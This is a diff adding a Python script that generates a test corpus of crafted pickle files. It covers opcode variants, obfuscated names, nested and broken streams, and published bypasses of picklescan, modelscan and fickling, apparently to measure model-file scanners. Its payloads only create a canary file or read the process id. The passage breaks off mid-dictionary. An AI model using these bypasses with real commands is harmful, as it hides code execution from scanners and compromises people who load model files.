@@ -1,0 +1,736 @@
+"""Writes files that would do something if they were loaded, and MANIFEST.json that says what each one is.
+
+    python3 malicious.py FOLDER CANARY
+
+All that any of them ever does is to create the file CANARY or one below it, ask for the process' number, or fail. The
+classes are those that scanners are measured by, with the published bypasses of picklescan, modelscan and fickling. Needs
+nothing but Python 3.8 or later; the same arguments give the same bytes.
+"""
+
+import base64
+import bz2
+import gzip
+import io
+import json
+import lzma
+import os
+import pickle
+import struct
+import sys
+import tarfile
+import zipfile
+import zlib
+
+folder, canary = sys.argv[1], os.path.abspath(sys.argv[2])
+os.makedirs(folder, exist_ok=True)
+TOUCH = "touch " + canary
+PYTHON = "open(%r, 'w').close()" % canary
+manifest = {}
+
+
+def put(name, content, kind, about=""):
+    """Writes a file, or a folder of files where `content` is a dictionary."""
+    path = os.path.join(folder, name)
+    for inner, data in content.items() if isinstance(content, dict) else [("", content)]:
+        target = os.path.join(path, inner) if inner else path
+        os.makedirs(os.path.dirname(target), exist_ok=True)
+        with open(target, "wb") as file:
+            file.write(data)
+    assert name not in manifest, name
+    manifest[name] = {"class": kind, "about": about}
+
+
+# Pickles by hand
+
+
+def text(value):
+    data = value.encode("utf-8", "surrogatepass")
+    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data
+
+
+def value(item):
+    """An argument in protocol 4; bytes are instructions already."""
+    if isinstance(item, bytes):
+        return item
+    if isinstance(item, str):
+        return text(item)
+    return pickle.dumps(item, 2)[2:-1]
+
+
+def named(module, name):
+    return text(module) + text(name) + b"\x93"
+
+
+def arguments(items):
+    return b"(" + b"".join(value(item) for item in items) + b"t"
+
+
+def call(module, name, *items):
+    return named(module, name) + arguments(items) + b"R"
+
+
+def raw(data):
+    """Bytes as an argument."""
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+def whole(*instructions, protocol=4):
+    return b"\x80" + bytes([protocol]) + b"".join(instructions) + b"."
+
+
+def system(*, protocol=4):
+    return whole(call("os", "system", TOUCH), protocol=protocol)
+
+
+# 1. Every way to write a call
+
+line = TOUCH.encode()
+OPCODES = {
+    "protocol-0-global": b"cos\nsystem\np0\n(S'" + line + b"'\np1\ntp2\nRp3\n.",
+    "protocol-0-python2": b"c__builtin__\neval\n(V" + ("__import__('os').system(%r)" % TOUCH).encode() + b"\ntR.",
+    "protocol-1-global": b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(line)) + line + b"tR.",
+    "protocol-2-global": b"\x80\x02cposix\nsystem\n" + b"X" + struct.pack("<I", len(line)) + line + b"\x85R.",
+    "protocol-3-global": b"\x80\x03cos\nsystem\n" + b"X" + struct.pack("<I", len(line)) + line + b"\x85R.",
+    "protocol-4-stack-global": system(),
+    "protocol-4-framed": b"\x80\x04\x95" + struct.pack("<Q", len(system()) - 2) + system()[2:],
+    "protocol-5-stack-global": system(protocol=5),
+    "inst": b"(S'" + line + b"'\nios\nsystem\n.",
+    "obj": b"(cos\nsystem\nS'" + line + b"'\no.",
+    "obj-pty-spawn": b"(cpty\nspawn\n](S'touch'\nS'" + canary.encode() + b"'\neo.",
+    "newobj": whole(named("subprocess", "Popen") + b"](" + text("touch") + text(canary) + b"e\x85\x81"),
+    "newobj-ex": whole(named("subprocess", "Popen") + b")}" + text("args") + text(TOUCH) + b"s" + text("shell") + b"\x88s\x92"),
+    "build-on-module-object": whole(named("os", "environ") + b"}" + text("PATH") + text(canary) + b"sb"),
+    "build-on-class": whole(named("sklearn.svm._classes", "SVC") + b"N}" + text("predict") + named("os", "getpid") + b"s\x86b"),
+    "setitem-on-global": whole(named("os", "environ") + text("X") + text(canary) + b"s"),
+    "setitems-on-modules": whole(named("sys", "modules") + b"(" + text("json") + named("os", "path") + b"u"),
+    "append-to-path": whole(named("sys", "path") + text(canary) + b"a"),
+    "appends-to-path": whole(named("sys", "path") + b"(" + text(canary) + b"e"),
+    "additems": whole(named("os", "supports_fd") + b"(" + text(canary) + b"\x90"),
+    "result-popped": whole(call("os", "system", TOUCH) + b"0N"),
+    "result-pop-mark": whole(b"(" + call("os", "system", TOUCH) + b"1N"),
+    "in-dictionary": whole(b"}" + text("weights") + call("os", "system", TOUCH) + b"s"),
+    "in-tuple-of-list": whole(b"]" + call("os", "system", TOUCH) + b"\x85a"),
+    "as-dictionary-key": whole(b"}" + call("os", "system", TOUCH) + b"Ns"),
+    "result-called": whole(call("builtins", "getattr", named("os", "path"), "os") + b")R"),
+    "imported-only": whole(named("os", "system")),
+    "import-of-a-package": whole(named("antigravity", "webbrowser")),
+    "import-this": b"\x80\x02cthis\ns\n.",
+}
+for name, content in OPCODES.items():
+    put("opcodes/%s.pkl" % name, content, "opcodes")
+
+# 2. Names that are put together
+
+memoize, long_put = b"\x94", lambda n: b"r" + struct.pack("<I", n)
+NAMES = {
+    "memo-binput": text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93",
+    "memo-put-decimal": text("os") + b"p7\n0" + text("system") + b"p8\n0g7\ng8\n\x93",
+    "memo-far": text("os") + long_put(70000) + b"0" + text("system") + long_put(9) + b"0j" + struct.pack("<I", 70000) + b"h\x09\x93",
+    # picklescan issue 14: PUT and MEMOIZE mixed, so that a scanner that counts only one of them sees other names.
+    "memo-put-and-memoize": text("os") + b"q\x00" + text("system") + b"q\x01" + text("torch._utils") + memoize
+    + text("_rebuild_tensor_v2") + memoize + b"0000h\x00h\x01\x93",
+    "memo-overwritten": text("math") + b"q\x000" + text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93",
+    # picklescan issue 22: STACK_GLOBAL whose names don't stand before it.
+    "dup": text("system") + b"q\x050" + text("os") + b"20h\x05\x93",
+    "other-values-between": text("os") + text("system") + text("math") + text("floor") + b"00\x93",
+    "pop-mark-between": text("os") + text("system") + b"(" + text("math") + text("floor") + b"1\x93",
+    "short-binstring": b"U\x02osU\x06system\x93",
+    "binstring": b"T\x02\x00\x00\x00osT\x06\x00\x00\x00system\x93",
+    "binunicode8": b"\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93",
+    "string-escapes": b"S'o\\x73'\nS'\\x73ys\\164em'\n\x93",
+    "unicode-escapes": b"Vo\\u0073\nVs\\u0079stem\n\x93",
+    "string-double-quotes": b"S\"os\"\nS\"system\"\n\x93",
+    "dotted": named("shutil", "os.system"),
+    "dotted-through-sklearn": named("sklearn.base", "os.system"),
+    "dotted-through-numpy": named("numpy", "os.system"),
+    "dotted-through-joblib": named("joblib.numpy_pickle", "os.system"),
+    "dotted-globals": named("sklearn.svm._classes", "SVC.__init__.__globals__"),
+    "module-with-newline-name": b"cposix\nsystem\n",
+    "computed-module": call("builtins", "str", "os") + text("system") + b"\x93",
+    "computed-name": text("os") + call("builtins", "str", "system") + b"\x93",
+    "tuple-member": text("os") + text("system") + b"\x86q\x000" + text("os") + text("system") + b"\x93",
+}
+for name, content in NAMES.items():
+    put("names/%s.pkl" % name, whole(content + arguments([TOUCH]) + b"R"), "names")
+put("names/ext1.pkl", b"\x80\x02\x82\x01(S'" + line + b"'\ntR.", "extension codes")
+put("names/ext2.pkl", b"\x80\x02\x83\x01\x02)R.", "extension codes")
+put("names/ext4.pkl", b"\x80\x02\x84\x01\x02\x03\x00)R.", "extension codes")
+put("names/ext-registered.pkl", whole(call("copyreg", "add_extension", "os", "system", 7) + b"0\x82\x07" + arguments([TOUCH]) + b"R"),
+    "extension codes")
+put("names/persid.pkl", b"Pevil\n0cos\nsystem\n(S'" + line + b"'\ntR.", "persistent ids")
+put("names/binpersid.pkl", whole(text("evil") + b"Q0" + call("os", "system", TOUCH)), "persistent ids")
+put("names/binpersid-of-a-call.pkl", whole(call("os", "system", TOUCH) + b"Q"), "persistent ids")
+put("names/next-buffer.pkl", whole(b"\x97\x98" + call("os", "system", TOUCH), protocol=5), "persistent ids")
+
+# 3. Pickles in, behind and around pickles; damaged ones that act before they fail
+
+inner = system()
+benign = pickle.dumps({"weights": [1.0, 2.0]}, 4)
+STREAMS = {
+    "second-of-two": benign + inner,
+    "third-of-three": benign + pickle.dumps(3, 2) + inner,
+    "nested-loads": whole(call("pickle", "loads", raw(inner))),
+    "nested-c-loads": whole(call("_pickle", "loads", raw(inner))),
+    "nested-unpickler": whole(call("_pickle", "Unpickler", call("io", "BytesIO", raw(inner)))),
+    "nested-load-bytesio": whole(call("pickle", "load", call("_io", "BytesIO", raw(inner)))),
+    "nested-torch-bytes": whole(call("torch.storage", "_load_from_bytes", raw(inner))),
+    "nested-joblib-load": whole(call("joblib.numpy_pickle", "load", "other.joblib")),
+    "nested-pandas": whole(call("pandas.io.pickle", "read_pickle", "other.pkl")),
+    "nested-numpy-load": whole(call("numpy", "load", "other.npy", b"N", b"\x88")),
+    "nested-dill": whole(call("dill._dill", "loads", raw(inner))),
+    # GHSA-9gvj-pp9x-gcfr and others: what follows the call is no pickle, so that a scanner gives up; Python has run it.
+    "broken-opcode-after": whole(call("os", "system", TOUCH))[:-1] + b"\xff.",
+    "truncated-after": whole(call("os", "system", TOUCH))[:-1],
+    "truncated-text-after": whole(call("os", "system", TOUCH))[:-1] + b"\x8c\xffabc",
+    "underflow-after": whole(call("os", "system", TOUCH))[:-1] + b"0000R.",
+    "missing-memo-after": whole(call("os", "system", TOUCH))[:-1] + b"h\x77.",
+    "bad-utf8-after": whole(call("os", "system", TOUCH))[:-1] + b"\x8c\x02\xff\xfe.",
+    "bad-number-after": whole(call("os", "system", TOUCH))[:-1] + b"Inot\n.",
+    "unknown-protocol-after": whole(call("os", "system", TOUCH))[:-1] + b"\x80\x09.",
+    "frame-past-end": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + inner[2:],
+    "frame-too-short": b"\x80\x04\x95" + struct.pack("<Q", 3) + inner[2:],
+    "second-broken": benign + inner[:-1] + b"\xff",
+    "junk-behind": inner + b"\x00" * 100,
+    "protocol-twice": b"\x80\x02\x80\x04" + inner[2:],
+    "protocol-late": b"N0\x80\x04" + inner[2:],
+    "without-protocol": inner[2:],
+    "zeros-before-stop": inner[:-1] + b"N0" * 50 + b".",
+    "deep": b"\x80\x04" + b"(" * 5000 + call("os", "system", TOUCH) + b"t" * 5000 + b".",
+    "late": b"\x80\x04](" + b"K\x01" * 300000 + call("os", "system", TOUCH) + b"e.",
+    "line-without-end": b"cos\nsystem\n(S'" + line + b"'\ntRcjson",
+}
+for name, content in STREAMS.items():
+    put("streams/%s.pkl" % name, content, "nested, concatenated and broken pickles")
+
+# 4. Names that the scanners' lists lacked. Sources: picklescan's advisories (GHSA-655q-fx9r-782v, -769v-p64c-89pr, -m273-6v24-
+# x4m4, -4675-36f9-wf6r, -84r2-jw7c-4r5q, -vqmv-47xg-9wpr, -hgrh-qx5j-jfwx, -r8g5-cgf2-4m4m, -x843-g5mx-g377, -3329-ghmp-jmv5,
+# -cffc-mxrf-mhh4, -rrxm-2pvv-m66x, -6556-fwc2-fg2p, -f7qq-56ww-84cr, -mjqp-26hc-grxg, -jgw4-cr84-mqxg, -955r-x9j8-7rhh, -46h3-79wf-
+# xr6c, -v7x6-rv5q-mhwc, -xp4f-hrf8-rxw7, -7wx9-6375-f5wh, -vvpj-8cmc-gx39, -g38g-8gr9-h9xp), CVE-2025-1716, -10155, -10156, -10157,
+# fickling issues 16, 108, 190, 302 and modelscan issue 311.
+
+PUBLISHED = """
+builtins.eval PY|builtins.exec PY|builtins.compile PY x exec|builtins.open OUT w|builtins.__import__ os|builtins.breakpoint
+builtins.getattr os|builtins.input x|builtins.setattr x y z|builtins.delattr x y|builtins.globals|builtins.vars|builtins.memoryview B
+__builtin__.eval PY|__builtin__.execfile OUT|__builtin__.apply x|__builtin__.file OUT w|__builtin__.reload x
+os.system CMD|os.popen CMD|os.execl /bin/true true|os.spawnlp 0 true true|os.posix_spawn /bin/true L D|os.remove OUT|os.mkdir OUT
+os.unlink OUT|os.rename OUT OUT|os.kill 0 0|os._exit 0|os.putenv A B|os.startfile OUT|os.listdir .|os.getpid
+posix.system CMD|posix.popen CMD|posix.fork|posix.execv /bin/true L|nt.system CMD|posix.open OUT 65
+subprocess.call CMD|subprocess.run CMD|subprocess.Popen CMD|subprocess.check_output CMD|subprocess.getoutput CMD|subprocess.getstatusoutput CMD
+commands.getoutput CMD|commands.getstatusoutput CMD|popen2.popen2 CMD
+sys.exit 0|sys.settrace N|sys.setprofile N|socket.create_connection L|socket.socket|_socket.socket|ssl.get_server_certificate L
+shutil.rmtree OUT|shutil.copy OUT OUT|shutil.move OUT OUT|shutil.unpack_archive OUT
+runpy.run_path OUT|runpy._run_code PY|runpy.run_module os|importlib.import_module os|importlib.reload os|importlib._bootstrap._call_with_frames_removed PY
+importlib.util.spec_from_file_location x OUT|importlib.machinery.SourceFileLoader x OUT|imp.load_source x OUT|imp.load_dynamic x OUT|zipimport.zipimporter OUT
+pkgutil.resolve_name os:system|pkgutil.get_data os x|code.interact|code.InteractiveInterpreter|code.InteractiveConsole|codeop.compile_command PY
+pty.spawn CMD|pip.main L|pip._internal.main L|pip._internal.cli.main.main L|ensurepip._run_pip L|ensurepip.bootstrap|venv.create OUT
+webbrowser.open x|antigravity.geohash 1 2 B|ctypes.CDLL OUT|ctypes.util._findLib_gcc OUT|_ctypes.dlopen OUT|cffi.FFI
+asyncio.subprocess.create_subprocess_shell CMD|asyncio.unix_events._UnixSubprocessTransport._start CMD|asyncio.unix_events._UnixSubprocessTransport CMD
+multiprocessing.Process|multiprocessing.util.spawnv_passfds OUT L L|multiprocessing.popen_fork.Popen N|concurrent.futures.process.ProcessPoolExecutor
+pickle.loads B|pickle.load N|_pickle.load N|_pickle.loads B|cPickle.loads B|marshal.loads B|marshal.load N|shelve.open OUT|dill.loads B|cloudpickle.loads B
+timeit.timeit PY|timeit.main L|cProfile.run PY|cProfile.runctx PY D D|profile.run PY|profile.runctx PY D D|profile.Profile.run PY|profile.Profile.runctx PY D D
+trace.Trace.run PY|trace.Trace.runctx PY D D|pdb.run PY|pdb.runeval PY|bdb.Bdb.run PY|bdb.Bdb.runeval PY|bdb.Bdb|pdb.Pdb|doctest.debug_script PY
+idlelib.autocomplete.AutoComplete.get_entity PY|idlelib.autocomplete.AutoComplete.fetch_completions PY|idlelib.calltip.get_entity PY
+idlelib.calltip.Calltip.fetch_tip PY|idlelib.debugobj.ObjectTreeItem.SetText PY|idlelib.pyshell.ModifiedInterpreter.runcode PY
+idlelib.pyshell.ModifiedInterpreter.runcommand PY|idlelib.run.Executive.runcode PY
+lib2to3.pgen2.grammar.Grammar.loads B|lib2to3.pgen2.pgen.ParserGenerator.make_label PY
+distutils.file_util.write_file OUT L|distutils.spawn.spawn L|setuptools._distutils.file_util.write_file OUT L|_io.FileIO OUT w|io.open OUT w|io.FileIO OUT w|_io.open OUT w
+logging.FileHandler OUT|logging.config.listen|logging.config._resolve os|tempfile.NamedTemporaryFile|tempfile.mktemp|pathlib.Path.write_text OUT x|pathlib.PosixPath.unlink OUT
+linecache.getlines OUT|linecache.updatecache OUT|fileinput.input OUT|gzip.open OUT w|bz2.open OUT w|lzma.open OUT w|tarfile.open OUT w|zipfile.ZipFile OUT w|sqlite3.connect OUT
+codecs.open OUT w|codecs.decode B zlib|_codecs.decode B zlib|mmap.mmap 0 1|platform.popen CMD|platform._syscmd_file OUT|getpass.getpass|cgitb.lookup x
+uuid._get_command_stdout touch OUT|uuid._popen CMD|imaplib.IMAP4_stream CMD|_pyrepl.pager.pipe_pager x CMD|_pyrepl.pager.tempfile_pager x CMD
+_osx_support._read_output CMD|_osx_support._find_build_tool CMD|_aix_support._read_cmd_output CMD|test.support.script_helper.assert_python_ok x
+http.client.HTTPSConnection x|http.server.HTTPServer L N|httplib.HTTPConnection x|urllib.request.urlopen file:///dev/null|urllib.request.urlretrieve x OUT
+requests.get x|requests.api.get x|aiohttp.client.ClientSession|urllib3.PoolManager|ftplib.FTP x|smtplib.SMTP x|telnetlib.Telnet x|poplib.POP3 x|xmlrpc.client.ServerProxy x
+operator.attrgetter system|operator.itemgetter x|operator.methodcaller system CMD|_operator.attrgetter system|_operator.itemgetter x|_operator.methodcaller system CMD
+functools.partial N|functools.reduce N L|_functools.reduce N L|itertools.starmap N L|builtins.map N L|builtins.filter N L|types.FunctionType N D|types.CodeType 0|types.MethodType N N|types.ModuleType x
+_xxsubinterpreters.run_string 0 PY|_interpreters.create|_interpreters.run_string 0 PY|_testcapi.run_in_subinterp PY|_posixsubprocess.fork_exec L|_winapi.CreateProcess x
+signal.raise_signal 0|resource.setrlimit 0 L|faulthandler._sigsegv|atexit.register N|threading.Thread|_thread.start_new_thread N L|weakref.finalize N N|gc.get_objects
+copyreg.pickle N N|copyreg.constructor N|copyreg.add_extension os system 9|copy.deepcopy x|inspect.getsource x|site.main|site.addpackage OUT x D|sysconfig.get_config_var x
+smtpd.SMTPServer L|nturl2path.url2pathname x|xml.sax.parse OUT|json.load N|csv.DictReader N|configparser.ConfigParser|turtle.config_dict OUT|turtledemo.main|pydoc.pipepager x CMD
+pydoc.locate os.system|pydoc.tempfilepager x CMD|unittest.main|unittest.loader.TestLoader.loadTestsFromName x|zipapp.create_archive OUT|compileall.compile_file OUT|py_compile.compile OUT
+numpy.load OUT|numpy.save OUT L|numpy.loadtxt OUT|numpy.savetxt OUT L|numpy.fromfile OUT|numpy.memmap OUT|numpy.genfromtxt OUT|numpy.lib.npyio.load OUT|numpy.lib.npyio.DataSource OUT
+numpy.f2py.crackfortran.getlincoef PY D|numpy.f2py.crackfortran._eval_length PY D|numpy.f2py.crackfortran.param_eval PY D D D|numpy.f2py.crackfortran.myeval PY|numpy.f2py.diagnose.run_command CMD|numpy.f2py.compile PY
+numpy.testing._private.utils.runstring PY D|numpy.testing.runstring PY D|numpy.testing.measure PY|numpy.distutils.exec_command.exec_command CMD|numpy.ctypeslib.load_library x OUT
+numpy.vectorize N|numpy.frompyfunc N 1 1|numpy.apply_along_axis N 0 L|numpy.piecewise L L L|numpy.lib.format.open_memmap OUT|numpy.lib.format.read_array N|numpy.core.records.fromfile OUT
+scipy.io.loadmat OUT|scipy.stats._distn_infrastructure.rv_generic|scipy.stats._distn_infrastructure.rv_frozen|scipy.LowLevelCallable N|scipy.optimize.minimize N L|scipy.integrate.quad N 0 1
+pandas.eval PY|pandas.core.computation.eval.eval PY|pandas.read_pickle OUT|pandas.read_csv OUT|pandas.io.common.get_handle OUT w|pandas.io.parsers.readers.read_csv OUT|pandas.io.clipboard.clipboard_get
+pandas.core.frame.DataFrame.query PY|pandas.core.frame.DataFrame.eval PY|pandas.core.frame.DataFrame.to_pickle OUT|pandas._testing.network N|pandas.util._print_versions.show_versions
+sklearn.datasets._base.load_files OUT|sklearn.datasets._base._fetch_remote x OUT|sklearn.datasets._openml._open_openml_url x|sklearn.utils._testing.TempMemmap L|sklearn.utils.fixes._open_text OUT
+sklearn.externals.joblib.load OUT|sklearn.externals.joblib.numpy_pickle.load OUT|sklearn.utils._show_versions.show_versions|sklearn.base.clone N|sklearn.utils.parallel.delayed N|sklearn.utils.metaestimators.available_if N
+sklearn.base.os.system CMD|sklearn.utils.discovery.all_estimators|sklearn.experimental.enable_halving_search_cv.x|sklearn.tree._export.export_graphviz N OUT|sklearn.inspection._pd_utils._get_feature_index 0
+joblib.load OUT|joblib.dump x OUT|joblib.memory.Memory OUT|joblib.parallel.Parallel|joblib.numpy_pickle.load OUT|joblib.numpy_pickle_utils._detect_compressor N|joblib.externals.loky.backend.popen_loky_posix.Popen N
+joblib.externals.cloudpickle.cloudpickle._make_function N|joblib.externals.cloudpickle.cloudpickle.subimport os|joblib.externals.loky.process_executor._process_worker N|joblib._store_backends.FileSystemStoreBackend
+cloudpickle.cloudpickle._builtin_type CodeType|cloudpickle.cloudpickle._make_function N|cloudpickle.cloudpickle.subimport os|dill._dill._create_function N|dill._dill._import_module os|dill._dill._eval_repr PY
+torch.load OUT|torch.hub.load x x|torch.hub._load_local OUT x|torch.hub.load_state_dict_from_url x|torch.save L OUT|torch.jit.load OUT|torch._C.import_ir_module OUT|torch.classes.load_library OUT|torch.ops.load_library OUT
+torch.utils.collect_env.run CMD|torch.utils.collect_env.run_and_read_all N CMD|torch.utils.bottleneck.__main__.run_cprofile PY D|torch.utils.bottleneck.__main__.run_autograd_prof PY D|torch.utils._config_module.ConfigModule.load_config B
+torch.utils._config_module.load_config B|torch._dynamo.guards.GuardBuilder.get PY|torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression PY|torch.jit.unsupported_tensor_ops.execWrapper PY D D
+torch.utils.data.datapipes.utils.decoder.basichandlers x B|torch.distributed.rpc.rpc_sync x|torch.storage._load_from_bytes B|torch._utils._rebuild_from_type_v2 N N L N|torch.multiprocessing.spawn N|torch.package.PackageImporter OUT
+torch.utils.cpp_extension.load x OUT|torch.utils.cpp_extension.load_inline x PY|torch._inductor.codecache.compile_file OUT OUT CMD|torch.fx._symbolic_trace.Tracer|torch.fx.graph_module.reduce_graph_module D PY|torch.fx.graph_module._exec_with_source PY D
+torch.nn.parallel.distributed._create_unit N|torch.nn.modules.module.torch.load OUT|torch.serialization.load OUT|torch.from_file OUT|torch.UntypedStorage.from_file OUT|torch._C._jit_pass_x N
+tensorflow.io.read_file OUT|tensorflow.python.ops.script_ops.py_func N|keras.utils.get_file x|keras.src.saving.saving_lib.load_model OUT|keras.models.load_model OUT|keras.config.enable_unsafe_deserialization
+transformers.AutoModel.from_pretrained x|transformers.dynamic_module_utils.get_class_in_module x OUT|transformers.utils.hub.cached_file x|lightgbm.basic.Booster N OUT|xgboost.core._LIB|catboost.core._load_from_file OUT
+category_encoders.utils.os.system CMD|imblearn.utils.testing.all_estimators|skops.io.load OUT|mlflow.pyfunc.load_model OUT|onnxruntime.InferenceSession OUT|numba.core.serialize._unpickle__CustomPickled B|IPython.core.interactiveshell.InteractiveShell
+fickling.loader.load N|nltk.data.load OUT|nltk.app.wordnet_app.app|django.core.management.execute_from_command_line L|flask.helpers.send_file OUT|jinja2.environment.Template PY|yaml.unsafe_load PY|rich.console.Console|
+""".replace("\n", "|").strip("|").split("|")
+
+ARGUMENTS = {"CMD": TOUCH, "PY": PYTHON, "OUT": canary, "N": b"N", "L": b"]", "D": b"}", "B": raw(inner)}
+for entry in PUBLISHED:
+    words = entry.split()
+    if not words:
+        continue
+    parts = words[0].split(".")
+    # The module is what starts in lower case; a class and what follows are the name.
+    split = next((i for i, part in enumerate(parts) if i and part[0].isupper()), len(parts) - 1)
+    module, name = ".".join(parts[:split]), ".".join(parts[split:])
+    items = [ARGUMENTS.get(word, int(word) if word.isdigit() else word) for word in words[1:]]
+    put("published/%s.pkl" % words[0], whole(call(module, name, *items)), "published bypasses and other names beyond the lists")
+
+# 5. Permitted names put to other uses
+
+get = lambda *path: call("builtins", "getattr", *path)
+partial = lambda *items: call("functools", "partial", *items)
+memmap = named("numpy", "memmap")
+USES = {
+    "getattr-chain": get(get(named("shutil", "os"), "system"), "__call__") + arguments([TOUCH]) + b"R",
+    "attrgetter": call("operator", "attrgetter", "system") + arguments([named("os", "path")]) + b"R",
+    "methodcaller": call("operator", "methodcaller", "system", TOUCH) + arguments([named("posixpath", "os")]) + b"R",
+    "partial-called": partial(named("os", "system"), TOUCH) + b")R",
+    "partial-build": named("functools", "partial") + b")\x81(" + named("os", "system") + text(TOUCH) + b"\x85}NtbR",
+    "defaultdict-factory": call("collections", "defaultdict", named("os", "getpid")),
+    "defaultdict-partial": call("collections", "defaultdict", partial(named("os", "system"), TOUCH)),
+    "ordered-dict-of-map": call("collections", "OrderedDict", call("builtins", "map", named("os", "system"), b"](" + text(TOUCH) + b"e")),
+    "set-of-map": call("builtins", "set", call("builtins", "map", named("os", "system"), b"](" + text(TOUCH) + b"e")),
+    "type-made": call("builtins", "type", "X", b")", b"}" + text("__init__") + named("os", "system") + b"s") + arguments([TOUCH]) + b"R",
+    "code-object": call("types", "FunctionType", call("types", "CodeType", 0), b"}"),
+    "ufunc-by-name": call("numpy.core", "_ufunc_reconstruct", "os", "system") + arguments([TOUCH]) + b"R",
+    "ufunc-by-name-new": call("numpy._core", "_ufunc_reconstruct", "os", "system") + arguments([TOUCH]) + b"R",
+    "codec-zlib": call("_codecs", "encode", "x", "zlib"),
+    "codec-lookup": call("_codecs", "lookup", "zlib"),
+    "scalar-of-object": call("numpy.core.multiarray", "scalar", call("numpy", "dtype", "O8", b"\x89", b"\x88"), call("os", "getpid")),
+    "generator-maker": call("numpy.random._pickle", "__randomstate_ctor", TOUCH, named("os", "system")),
+    "generator-maker-of-named": call("numpy.random._pickle", "__generator_ctor", canary, named("numpy", "percentile")),
+    "generator-maker-memmap": call("numpy.random._pickle", "__bit_generator_ctor", memmap),
+    "new-index-memmap": call("pandas.core.indexes.base", "_new_Index", memmap, b"}(" + text("filename") + text(canary) + text("mode")
+                             + text("w+") + text("shape") + b"K\x08u"),
+    "new-index-function": call("pandas.core.indexes.base", "_new_Index", named("numpy", "percentile"), b"}"),
+    "reconstructor-memmap": call("copyreg", "_reconstructor", memmap, named("builtins", "object"), b"N"),
+    "reconstructor-base": call("copyreg", "_reconstructor", named("builtins", "dict"), memmap, text(canary)),
+    "newobj-function": call("copyreg", "__newobj__", memmap, canary, "uint8", "w+"),
+    "newobj-ex-function": call("copyreg", "__newobj_ex__", memmap, b"(" + text(canary) + b"t", b"}"),
+    "newobj-estimator-arguments": named("lightgbm.basic", "Booster") + arguments([b"N", b"N", canary]) + b"\x81",
+    "booster-reads-file": call("xgboost.core", "Booster", b"N", b")", canary),
+    "booster-reads-file-lightgbm": call("lightgbm.basic", "Booster", b"N", b"N", canary),
+    "estimator-called": call("sklearn.pipeline", "Pipeline", b"]"),
+    "metric-called": call("sklearn.metrics._classification", "accuracy_score", b"]", b"]"),
+    "ufunc-called": call("numpy", "log1p", b"K\x01"),
+    "rebuild-from-type": call("torch._utils", "_rebuild_from_type_v2", named("os", "system"), named("torch", "Tensor"), arguments([TOUCH]), b"N"),
+    "rebuild-wrapper": call("torch._tensor", "_rebuild_from_type_v2", named("os", "system"), named("torch", "Tensor"), arguments([TOUCH]), b"N"),
+    "parameter-called": call("torch._utils", "_rebuild_parameter", call("os", "getpid"), b"\x89", b"}"),
+    "bunch-reduce": named("sklearn.utils", "Bunch") + b")\x81}" + text("__class__") + named("subprocess", "Popen") + b"sb",
+    "state-with-evil": named("sklearn.svm._classes", "SVC") + b")\x81}" + text("kernel") + named("os", "system") + b"sb",
+    "function-transformer": named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + text("func")
+    + named("os", "system") + b"sb",
+    "function-transformer-eval": named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + text("func")
+    + named("builtins", "eval") + b"sb",
+    "function-transformer-load": named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + text("func")
+    + named("numpy", "load") + b"sb",
+    "slot-state-on-class": named("sklearn.base", "BaseEstimator") + b"N}" + text("__setstate__") + named("os", "system") + b"s\x86b",
+    "build-then-call": named("sklearn.svm._classes", "SVC") + b")\x81" + b"}b" + arguments([TOUCH]) + b"R",
+    "arguments-made-by-tuple": named("numpy.random._pickle", "__randomstate_ctor")
+    + call("builtins", "tuple", b"](" + text(TOUCH) + named("numpy", "percentile") + b"e") + b"R",
+    "ndarray-subclass": call("numpy.core.multiarray", "_reconstruct", named("subprocess", "Popen"), b"(K\x00t", raw(b"b")),
+    "masked-array": call("numpy.ma.core", "_mareconstruct", memmap, named("numpy", "ndarray"), b"(K\x00t", raw(b"b")),
+    "cython-unpickle": call("sklearn._loss._loss", "__pyx_unpickle_CyHalfSquaredError", memmap, b"K\x01", b"N"),
+    "python2-unicode-module": b"c__builtin__\ngetattr\n" + arguments([named("os", "path"), "os"]) + b"R",
+    "fullwidth-module": named("ｏs", "system") + arguments([TOUCH]) + b"R",
+    "long-s-module": named("ſklearn.base", "BaseEstimator") + b")\x81",
+    "empty-module": named("", "system") + arguments([TOUCH]) + b"R",
+    "main-module": named("__main__", "exec") + arguments([PYTHON]) + b"R",
+    "user-like-module": named("sklearn_extra.base", "Model") + b")\x81",
+    "look-alike-package": named("sklearnn.svm", "SVC") + b")\x81",
+    "sub-module-nobody-has": named("sklearn.svm.backdoor", "SVC") + b")\x81",
+    "class-nobody-has": named("sklearn.svm._classes", "SVCx") + b")\x81",
+    "constant": named("sklearn.utils._joblib", "Parallel") + b")R",
+    "zone-path": call("zoneinfo", "ZoneInfo.from_file", b"N"),
+    "timezone-file": call("dateutil.tz.tz", "tzfile", canary),
+}
+for name, content in USES.items():
+    put("uses/%s.pkl" % name, whole(content), "permitted names put to other uses")
+
+# 6. Compressed pickles, joblib's arrays
+
+
+def lz4(data):
+    """A frame with one stored block (LZ4 frame format 1.6), its header's checksum by xxHash32."""
+    header = b"\x60\x70"
+    return (b"\x04\x22\x4d\x18" + header + bytes([xxh32(header) >> 8 & 0xFF])
+            + struct.pack("<I", len(data) | 0x80000000) + data + b"\0\0\0\0")
+
+
+def xxh32(data):
+    mask, h = 0xFFFFFFFF, (374761393 + len(data)) & 0xFFFFFFFF
+    for byte in data:  # fewer than four
+        h = (h + byte * 374761393) & mask
+        h = ((h << 11 | h >> 21) & mask) * 2654435761 & mask
+    h = (h ^ h >> 15) * 2246822519 & mask
+    h = (h ^ h >> 13) * 3266489917 & mask
+    return h ^ h >> 16
+
+
+COMPRESSED = {
+    "zlib": zlib.compress, "gzip": lambda d: gzip.compress(d, mtime=0), "bz2": bz2.compress,
+    "xz": lambda d: lzma.compress(d, lzma.FORMAT_XZ), "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE), "lz4": lz4,
